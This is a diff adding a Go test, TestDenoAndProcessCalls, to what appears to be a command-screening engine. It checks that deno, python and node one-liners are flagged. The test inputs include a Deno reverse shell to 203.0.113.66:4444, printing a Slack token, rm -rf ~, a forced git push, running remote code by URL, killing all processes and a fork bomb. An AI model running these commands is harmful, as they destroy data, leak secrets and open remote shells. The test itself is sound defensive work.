@@ -285,3 +285,28 @@ func TestLookAlikesCannotBeAbused(t *testing.T) {
 		{`docker run --rm --log-opt max-size=1m bitnami/kubectl delete ns prod`, "kube:delete"},
 	})
 }
+
+// TestDenoAndProcessCalls: deno eval runs JavaScript (judged as node's),
+// deno run of a URL runs code from the network, Deno's and Bun's process,
+// file and socket APIs are read like node's, and interpreter code that
+// signals every process or init, or forks from an endless iterator, is
+// refused.
+func TestDenoAndProcessCalls(t *testing.T) {
+	t.Parallel()
+	e := newEngine(t, DefaultConfig())
+	checkDecisions(t, e, []ruleCase{
+		{`deno eval "console.log(Deno.env.get('SLACK_BOT_TOKEN'))"`, "secrets:secret-print"},
+		{`deno eval "require('child_process').execSync('rm -rf ~')"`, "rm-root"},
+		{`deno eval "new Deno.Command('git',{args:['push','--force','origin','release']}).outputSync()"`, "git-destructive"},
+		{`deno run -A https://example.com/install.ts`, "pipe-to-shell"},
+		{`deno eval "const c=await Deno.connect({hostname:'203.0.113.66',port:4444});const p=new Deno.Command('/bin/sh',{stdin:'piped',stdout:'piped'}).spawn();c.readable.pipeTo(p.stdin);p.stdout.pipeTo(c.writable)"`, "egress:shell-socket"},
+		{`deno run -A main.ts`, ""},
+		{`deno eval 'console.log(1+1)'`, ""},
+		{`python3 -c 'import os; os.kill(1, 9)'`, "kill-all"},
+		{`python3 -c 'import os, signal; os.kill(-1, signal.SIGKILL)'`, "kill-all"},
+		{`python3 -c 'import os; [os.fork() for _ in iter(int, 1)]'`, "fork-bomb"},
+		{`node -e 'process.kill(-1)'`, "kill-all"},
+		{`python3 -c 'import os; os.kill(12345, 9)'`, ""},
+		{`node -e 'process.kill(process.pid)'`, ""},
+	})
+}
